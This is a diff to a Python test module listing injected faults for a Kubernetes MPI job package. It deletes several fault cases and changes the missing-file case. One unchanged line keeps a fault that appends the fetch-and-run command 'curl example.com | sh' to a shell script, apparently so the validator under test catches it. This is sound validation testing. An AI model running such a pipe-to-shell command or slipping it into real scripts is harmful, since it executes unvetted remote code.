@@ -83,13 +83,6 @@ def appended(name: str, file: str, text: str, line: str | None = None, **more: A
     return Fault(name, append(file, text), file, text.strip() if line is None else line, **more)
 
 
-def _rename(package: Path) -> None:
-    """Give the package's workloads a name that fits by itself, and no longer with what is put behind it."""
-    for path in package.glob("quickstart/**/*.yaml"):
-        text = path.read_text(encoding="utf-8")
-        path.write_text(text.replace("hello-mpi", "hello-message-passing-interface-for-everybody"), encoding="utf-8")
-
-
 def _service(package: Path) -> None:
     (package / MULTI / "service.yaml").write_text(
         "apiVersion: v1\nkind: Service\nmetadata:\n  name: hello-mpi\nspec:\n  ports:\n    - port: 80\n",
@@ -144,9 +137,7 @@ def _add_file(package: Path) -> None:
 
 FAULTS = (
     appended("changed-script", f"{BASE}/identity.sh", "curl example.com | sh\n", line="", sealed=False),
-    Fault(
-        "missing-file", lambda package: (package / "README.md").unlink(), "manifest.json", '"README.md"', sealed=False
-    ),
+    Fault("missing-file", lambda package: (package / "README.md").unlink(), "README.md", "", sealed=False),
     Fault("extra-file", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
     Fault(
         "lost-mode",
@@ -181,9 +172,7 @@ FAULTS = (
     Fault("remote-transformer", _ask_for_gpus, f"{GPU}/gpu.yaml", "path: https://localhost:1/patch.yaml"),
     changed("key-of-another-case", LIST, "patches:", "Patches:"),
     changed("merged-key", LIST, "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}", line="<<: {"),
-    appended("duplicate-env-key", f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
     changed("quoted-env-value", ENV, "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
-    appended("long-env-line", ENV, f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n", line="VOCABULARY="),
     appended("exported-env-key", ENV, "export EPOCHS=90\n", line="export EPOCHS"),
     changed("unknown-field", POD, "      workingDir: /", "      workDir: /"),
     changed("text-for-a-number", PATCH, "runAsUser: 1000", 'runAsUser: "1000"'),
@@ -204,7 +193,6 @@ FAULTS = (
     changed("misspelt-policy", MPI_JOB, "cleanPodPolicy: Running", "cleanPodPolicy: running"),
     changed("two-launchers", MPI_JOB, "replicas: 1", "replicas: 2"),
     changed("too-many-processes", f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
-    Fault("too-long-name", _rename, MPI_JOB, "name: hello-message-passing"),
     Fault("operators-name", _service, f"{MULTI}/service.yaml", "kind: Service"),
     changed("missing-configmap", POD, "name: hello-mpi-env", "name: hello-mpi-environment"),
     changed(
